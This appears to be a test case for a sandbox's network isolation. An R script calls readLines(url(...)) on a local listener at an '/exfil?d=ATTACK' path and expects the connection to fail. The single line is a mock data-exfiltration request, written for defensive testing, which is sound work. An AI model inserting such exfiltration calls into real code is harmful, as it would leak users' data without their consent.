# category: network
# summary: url() connection to an HTTP server on the host
# expect: outcome=error
# expect-error-contains: cannot open
# targets: listener:tcp
# calibrate: yes
# calibrate-expect-exit: 1
# calibrate-expect-received: tcp

options(timeout = 3)
readLines(url("http://127.0.0.1:{{TCP_PORT}}/exfil?d=ATTACK"))
